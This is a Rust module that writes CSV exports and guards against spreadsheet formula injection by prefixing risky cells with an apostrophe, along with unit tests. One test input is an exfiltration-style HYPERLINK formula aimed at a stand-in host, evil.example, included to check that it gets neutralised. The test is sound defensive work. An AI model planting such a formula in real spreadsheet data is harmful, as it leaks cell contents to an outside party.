//! The one CSV writer behind every CSV roster serves (the provisioning-log
//! export, the audit log's, the hand-off). A value from the directory or from an
//! app can start with a character a spreadsheet reads as a formula
//! (`=HYPERLINK(...)`, `+`, `-`, `@`, or a tab or carriage return that some strip
//! before they look): such a cell is first neutralised, prefixed with `'` so that
//! it opens as text. The `csv` crate then writes the rows, quoting a cell as
//! RFC 4180 requires when it holds a comma, a quote or a line break.

use serde_json::Value;
use std::borrow::Cow;

/// Characters that make a spreadsheet read a cell as a formula when they lead it.
const FORMULA_LEADS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `text` as a spreadsheet should show it: prefixed with `'` when it could be
/// read as a formula, as it is otherwise.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_LEADS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The text of a JSON value in a cell: null is empty, a string its text,
/// anything else its JSON.
pub fn value_text(value: &Value) -> Cow<'_, str> {
    match value {
        Value::Null => Cow::Borrowed(""),
        Value::String(s) => Cow::Borrowed(s),
        other => Cow::Owned(other.to_string()),
    }
}

/// A CSV document being written: a header row, then one row per [`Table::row`],
/// each cell neutralised, rows ended by `\n`.
pub struct Table {
    writer: csv::Writer<Vec<u8>>,
}

impl Table {
    /// A table whose first row is `header`.
    pub fn new<I, S>(header: I) -> Table
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        // Rows may differ in length from the header: a reader reports that, a
        // writer of roster's own rows has no reason to refuse it.
        let mut table = Table { writer: csv::WriterBuilder::new().flexible(true).from_writer(Vec::new()) };
        table.row(header);
        table
    }

    /// Appends one row; every cell is neutralised, then quoted where needed.
    pub fn row<I, S>(&mut self, cells: I)
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells = cells.into_iter().map(|c| neutralise(c.as_ref()).into_owned());
        self.writer
            .write_record(cells)
            .expect("writing CSV to memory cannot fail: no I/O, and rows may differ in length");
    }

    /// The document as text.
    pub fn finish(self) -> String {
        let bytes = self.writer.into_inner().map_err(|e| e.into_error()).expect("flushing to memory cannot fail");
        // Every cell was a `str`, and the crate adds only ASCII around them.
        String::from_utf8(bytes).unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    /// `input` as the first of two cells of a row, written as CSV.
    fn check(input: &str, expected: &str) {
        let mut table = Table::new(["a", "b"]);
        table.row([input, "end"]);
        assert_eq!(table.finish(), format!("a,b\n{expected},end\n"), "cell {input:?}");
    }

    #[test]
    fn cells_are_quoted_and_formulas_neutralised() {
        check("plain", "plain");
        check("", "");
        check("a,b", "\"a,b\"");
        check("say \"hi\"", "\"say \"\"hi\"\"\"");
        check("two\nlines", "\"two\nlines\"");
        check("=1+1", "'=1+1");
        check(
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"",
        );
        check("+33 1 23", "'+33 1 23");
        check("-2+3", "'-2+3");
        check("@SUM(A1)", "'@SUM(A1)");
        check("\t=1+1", "'\t=1+1");
        check("\r=1+1", "\"'\r=1+1\"");
        check("a=b", "a=b");
        check("x-1", "x-1");
    }

    #[test]
    fn the_header_is_neutralised_too() {
        let table = Table::new(["userName", "=evil"]);
        assert_eq!(table.finish(), "userName,'=evil\n");
    }

    #[test]
    fn json_values_become_cells() {
        check(&value_text(&Value::Null), "");
        check(&value_text(&json!(5)), "5");
        check(&value_text(&json!(true)), "true");
        check(&value_text(&json!("=1")), "'=1");
        check(&value_text(&json!(-5)), "'-5");
        check(&value_text(&json!({"a": 1, "b": 2})), "\"{\"\"a\"\":1,\"\"b\"\":2}\"");
    }
}
